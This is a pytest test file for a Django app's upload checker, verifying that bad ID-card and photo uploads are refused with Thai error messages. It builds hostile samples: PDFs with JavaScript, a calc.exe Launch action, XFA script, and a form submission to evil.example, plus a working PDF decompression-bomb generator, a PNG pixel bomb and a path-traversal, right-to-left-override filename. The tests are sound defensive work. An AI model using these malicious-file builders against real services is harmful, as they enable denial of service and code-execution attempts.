"""What an upload really is: every kind of wrong file is refused with words that say how to mend it."""

import io
import resource
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from saiyai.membership.forms.files import check_file
from saiyai.membership.models import Document
from saiyai.membership.tests.form_answers import begin, picture
from saiyai.ui.checked_files import clean_name


def pdf(change=None, **options):
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def own_form_language(document):
    form = document.make_stream(b"<xdp><script>app.alert(1)</script></xdp>")
    document.Root.AcroForm = pikepdf.Dictionary(XFA=form, Fields=[])


def sends(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")


def unfolds(megabytes):
    """A PDF of some hundred kilobytes, of which one object stream unfolds to so many megabytes of spaces."""
    start, spaces = b"2 0 null ", b" " * 2**20
    packer = zlib.compressobj(9)
    data = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    data += megabytes * (packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH))  # each could stand alone
    total = zlib.adler32(start)
    for _ in range(megabytes):
        total = zlib.adler32(spaces, total)
    data += packer.flush()[:-4] + total.to_bytes(4)
    bodies = {
        1: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(data), data),
        3: b"<</Type/Catalog/Pages 4 0 R/X 2 0 R>>",
        4: b"<</Type/Pages/Kids[5 0 R]/Count 1>>",
        5: b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 9 9]>>",
    }
    out, places = b"%PDF-1.5\n", {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[6] = len(out)
    kinds = {0: (0, 0, 65535), 2: (2, 1, 0)} | {number: (1, place, 0) for number, place in places.items()}
    rows = b"".join(
        kind.to_bytes() + place.to_bytes(4) + rest.to_bytes(2) for _number, (kind, place, rest) in sorted(kinds.items())
    )
    table = b"<</Type/XRef/Size 7/W[1 4 2]/Root 3 0 R/Length %d>>" % len(rows)
    return out + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (table, rows, places[6])


def bomb():
    out = io.BytesIO()
    Image.new("1", (12000, 12000)).save(out, "PNG")
    return out.getvalue()


LOCKED = {"encryption": pikepdf.Encryption(owner="a", user="b")}
WRONG = [
    ("card.jpg", pdf(), "ID_CARD", "ข้างในเป็น PDF"),
    ("card.pdf", pdf(**LOCKED), "ID_CARD", "รหัสผ่าน"),
    ("card.pdf", pdf(script), "ID_CARD", "โปรแกรม"),
    ("card.pdf", pdf(launch), "ID_CARD", "โปรแกรม"),
    ("card.pdf", pdf(own_form_language), "ID_CARD", "โปรแกรม"),
    ("card.pdf", pdf(sends), "ID_CARD", "โปรแกรม"),
    ("card.pdf", b"%PDF-1.7 and nothing else", "ID_CARD", "เสียหรือไม่ครบ"),
    ("card.jpg", picture().read()[:900], "ID_CARD", "เสียหรือไม่ครบ"),
    ("card.png", bomb(), "ID_CARD", "ละเอียดเกินไป"),
    ("card.exe", b"MZ\x90\x00", "ID_CARD", "ยังรับไฟล์ชนิดนี้ไม่ได้"),
    ("me.pdf", pdf(), "PHOTO", "JPEG หรือ PNG"),
    ("me.jpg", b"\xff\xd8\xff" + bytes(2 * 1024 * 1024), "PHOTO", "ไม่เกิน 2.0"),
]


@pytest.mark.parametrize(("name", "content", "kind", "sentence"), WRONG)
def test_a_wrong_file_is_explained(name, content, kind, sentence):
    with translation.override("th"), pytest.raises(ValidationError) as told:
        check_file(SimpleUploadedFile(name, content), kind)
    assert sentence in " ".join(told.value.messages)


@pytest.mark.slow
def test_a_small_pdf_that_unfolds_to_gigabytes_does_not_fill_our_memory():
    content, before = unfolds(1500), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ValidationError):
        check_file(SimpleUploadedFile("card.pdf", content), "ID_CARD")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024


def test_a_photograph_loses_its_metadata_and_stays_upright():
    out, exif = io.BytesIO(), Image.Exif()
    exif[0x010F], exif[0x0112] = "camera", 6
    Image.new("RGB", (4000, 2000), "red").save(out, "JPEG", exif=exif)
    content, content_type = check_file(SimpleUploadedFile("me.jpeg", out.getvalue()), "PHOTO")
    cleaned = Image.open(io.BytesIO(content))
    assert content_type == "image/jpeg" and not cleaned.getexif() and cleaned.size == (800, 1600)


def test_a_good_pdf_stays_as_it_is():
    content = pdf()
    assert check_file(SimpleUploadedFile("card.PDF", content), "ID_CARD") == (content, "application/pdf")


@pytest.mark.parametrize(
    ("typed", "kept"),
    [("../../etc/pass\u202ewd.jpg", "passwd.jpg"), ("บัตร ของฉัน.JPEG", "บัตร ของฉัน.jpg"), (".jpg", "file.jpg"), ("a" * 300 + ".jpg", "a" * 100 + ".jpg")],
)  # fmt: skip
def test_names_of_files_are_cleaned(typed, kept):
    cleaned = clean_name(typed, "image/jpeg")
    assert cleaned == kept or (typed == ".jpg" and cleaned.endswith(".jpg"))


@pytest.mark.django_db
def test_twenty_megabytes_are_refused_in_words_and_the_good_file_beside_is_kept(client, offices, network):
    start = begin(client)
    large = SimpleUploadedFile("big.jpg", b"\xff\xd8\xff" + bytes(20 * 1024 * 1024), "image/jpeg")
    response = client.post(f"{start}documents/", {"ID_CARD": picture(), "PHOTO": large})
    page = response.content.decode()
    assert response.status_code == 422 and "ไม่เกิน 2.0" in page
    assert [one.kind for one in Document.objects.all()] == ["ID_CARD"]
    assert "card.jpg" in page
